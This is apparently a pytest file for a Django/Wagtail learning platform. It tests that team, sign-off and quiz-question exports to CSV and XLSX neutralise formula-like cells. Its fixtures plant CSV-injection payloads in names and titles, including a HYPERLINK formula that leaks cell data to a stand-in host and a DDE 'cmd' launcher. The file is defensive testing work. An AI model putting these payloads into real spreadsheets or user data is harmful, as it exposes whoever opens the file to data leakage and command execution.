"""No export hands a spreadsheet a formula (CSV injection, OWASP).

Names come from org imports and from people's own Wagtail account pages, titles from
trainers; a cell that starts with = + - @, a tab or a carriage return must reach the
spreadsheet as text. Every export is fetched the way its users get it.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lms.core.exports import XLSX_CONTENT_TYPE, restore_cell, safe_cell
from lms.guidelines import selectors as guideline_selectors
from lms.guidelines import services as guideline_services
from lms.people import roles
from lms.quizzes.models import Question
from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1;"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
BASE_DIR = Path(__file__).resolve().parent.parent


def login(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_rows(response) -> list[list[str]]:
    """The workbook's text cells (other cells as empty text); no cell may be a formula."""
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    # Streamed from a temporary file, not held in memory.
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    rows = []
    for row in sheet.iter_rows():
        assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
        rows.append([cell.value if isinstance(cell.value, str) else "" for cell in row])
    return rows


def assert_no_formula(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if FORMULA_START.match(cell)] == []


def assert_neutralised(rows: list[list[str]], *texts: str) -> None:
    """Each text is in the file once neutralised: an apostrophe, then the text unchanged."""
    assert_no_formula(rows)
    cells = {cell for row in rows for cell in row}
    for text in texts:
        assert "'" + text in cells, (text, cells)


class TestCells:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_formula_text_is_neutralised_and_restorable(self, text):
        assert safe_cell(text) == "'" + text
        assert restore_cell(safe_cell(text)) == text

    @pytest.mark.parametrize("text", ["Anna", "", "3 - 2", "'quoted'", "e=mc²", "1-2"])
    def test_other_text_is_unchanged(self, text):
        assert safe_cell(text) == text
        assert restore_cell(safe_cell(text)) == text

    @pytest.mark.parametrize("text", ["'=1+1", "''-2", "'@x"])
    def test_apostrophes_before_a_formula_stay_reversible(self, text):
        assert safe_cell(text) == "'" + text
        assert restore_cell(safe_cell(text)) == text

    @pytest.mark.parametrize("number", [-3, -2.5, Decimal("-1.50"), 0, 7])
    def test_numbers_written_by_our_code_stay_numbers(self, number):
        assert safe_cell(number) is number
        assert safe_cell(str(number)) == (f"'{number}" if str(number)[0] == "-" else str(number))

    def test_none_stays_an_empty_cell(self):
        assert safe_cell(None) is None


@pytest.fixture
def hostile(sales, manager):
    """People and content whose names start like formulas, in the manager's team."""
    department = factories.department(name="@SUM(1+1)", slug="sum")
    tabbed = factories.department(name="\t@Ops", slug="ops")
    people = [
        factories.user(
            username="-2+3",
            first_name='=HYPERLINK("http://x/?"&A1;"Click")',
            last_name="+cmd|' /C calc'!A0",
            email="=cmd@example.com",
            department=department,
            manager=manager,
        ),
        factories.user(
            username="tabby", first_name="\t=1+1", last_name="", department=tabbed, manager=manager
        ),
        factories.user(
            username="carriage",
            first_name="\r=1+1",
            last_name="",
            department=department,
            manager=manager,
        ),
    ]
    return {"department": department, "people": people}


class TestTeamCsv:
    def test_names_departments_and_titles_are_neutralised(self, manager, hostile):
        course = factories.course(title="-2+3 Social Selling")
        client = login(manager)
        response = client.post(
            reverse("assignments:assign"),
            {
                "item": f"course:{course.pk}",
                "assignees": [person.pk for person in hostile["people"]],
                "due_date": "2099-01-31",
            },
        )
        assert response.status_code == 302
        rows = csv_rows(client.get(reverse("assignments:team_csv")))
        assert_neutralised(
            rows,
            "-2+3",
            '=HYPERLINK("http://x/?"&A1;"Click") +cmd|\' /C calc\'!A0',
            "@SUM(1+1)",
            "\t@Ops",
            "-2+3 Social Selling",
            "=1+1",  # the full name, stripped of the tab or carriage return
        )
        assert rows[0][:3] == ["Username", "Name", "Department"]
        assert ["tabby", "'=1+1", "'\t@Ops", "'-2+3 Social Selling", "Course"] in [
            row[:5] for row in rows
        ]
        sheet = xlsx_rows(client.get(reverse("assignments:team_xlsx")))
        assert sheet[1:] and len(sheet) == len(rows)
        assert_neutralised(sheet, "-2+3", "@SUM(1+1)", "\t@Ops", "-2+3 Social Selling", "=1+1")


class TestSignOffCsv:
    @pytest.fixture
    def document(self, hostile):
        document = factories.guideline()
        version = guideline_selectors.current_version(document=document)
        for person in hostile["people"]:
            guideline_services.sign(user=person, document=document, version_id=version.pk)
        return document

    @pytest.fixture
    def admin_client(self):
        return login(factories.user(username="alex", groups=(roles.ADMINS,)))

    def test_company_wide(self, admin_client, hostile, document):
        rows = csv_rows(admin_client.get(reverse("guidelines:export", args=[document.pk])))
        assert_neutralised(
            rows,
            "-2+3",
            '=HYPERLINK("http://x/?"&A1;"Click") +cmd|\' /C calc\'!A0',
            "=cmd@example.com",
            "@SUM(1+1)",
            "\t@Ops",
            "\t=1+1",
            "\r=1+1",
        )
        sheet = xlsx_rows(admin_client.get(reverse("guidelines:export_xlsx", args=[document.pk])))
        assert len(sheet) == len(rows)
        assert_neutralised(
            sheet,
            "-2+3",
            '=HYPERLINK("http://x/?"&A1;"Click") +cmd|\' /C calc\'!A0',
            "=cmd@example.com",
            "@SUM(1+1)",
            "\t@Ops",
            "\t=1+1",
            "\n=1+1",  # XML reads a carriage return as a line feed
        )

    def test_per_department(self, admin_client, hostile, document):
        url = reverse("guidelines:export", args=[document.pk])
        rows = csv_rows(admin_client.get(url, {"department": "sum"}))
        assert_neutralised(rows, "-2+3", "=cmd@example.com", "@SUM(1+1)")
        assert {row[0] for row in rows[1:]} == {"'-2+3", "carriage"}

    def test_a_name_set_on_the_wagtail_account_page(self, admin_client, document):
        trainer = factories.user(username="tina", groups=(roles.TRAINERS,))
        client = login(trainer)
        page = client.get(reverse("wagtailadmin_account"))
        assert page.status_code == 200
        response = client.post(
            reverse("wagtailadmin_account"),
            {
                "name_email-first_name": '=HYPERLINK("http://x/?"&A1;"Click")',
                "name_email-last_name": "@SUM(1+1)",
                "name_email-email": "tina@example.com",
                "locale-preferred_language": "en",
                "locale-current_time_zone": "",
                "theme-theme": "system",
                "theme-density": "default",
                "theme-contrast": "system",
                "theme-keyboard_shortcuts": "on",
            },
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        trainer.refresh_from_db()
        assert trainer.first_name.startswith("=HYPERLINK")

        rows = csv_rows(admin_client.get(reverse("guidelines:export", args=[document.pk])))
        assert_neutralised(rows, '=HYPERLINK("http://x/?"&A1;"Click") @SUM(1+1)')


class TestQuizQuestionCsv:
    """The question file is opened in a spreadsheet for editing and imported again."""

    def test_export_is_neutralised_and_imports_unchanged(self, tmp_path):
        question = factories.question(
            kind="mc",
            content="=1+1 is how much?",
            answers=[("-2+3", True), ("@five", False), ("'=quoted", False)],
            explanation="+ means plus.",
        )
        factories.quiz(slug="maths", questions=[question])
        path = tmp_path / "questions.csv"
        call_command("quiz_questions_csv", "export", str(path), stdout=io.StringIO())
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        assert_neutralised(rows, "=1+1 is how much?", "-2+3", "@five", "'=quoted", "+ means plus.")

        Question.objects.filter(pk=question.pk).update(content="changed")
        call_command("quiz_questions_csv", "import", str(path), stdout=io.StringIO())
        question.refresh_from_db()
        assert question.content == "=1+1 is how much?"
        assert question.explanation == "+ means plus."
        assert [answer.content for answer in question.answers.order_by("pk")] == [
            "-2+3",
            "@five",
            "'=quoted",
        ]


def test_every_csv_or_spreadsheet_is_written_through_lms_exports():
    """A new export cannot forget the neutralising: only lms/core/exports.py may write CSV."""
    # Reading workbooks (lms/core/tabular.py, openpyxl's load_workbook) writes nothing; writing
    # one with openpyxl starts with a Workbook().
    writers = re.compile(
        r"csv\.(writer|DictWriter)\b|\bWorkbook\s*\(|openpyxl\.writer|xlsxwriter|\bxlwt\b"
    )
    offenders = []
    for folder in ("lms", "courses", "home", "loadtest"):
        for path in (BASE_DIR / folder).rglob("*.py"):
            if path == BASE_DIR / "lms" / "core" / "exports.py" or "migrations" in path.parts:
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(BASE_DIR)))
    assert offenders == []
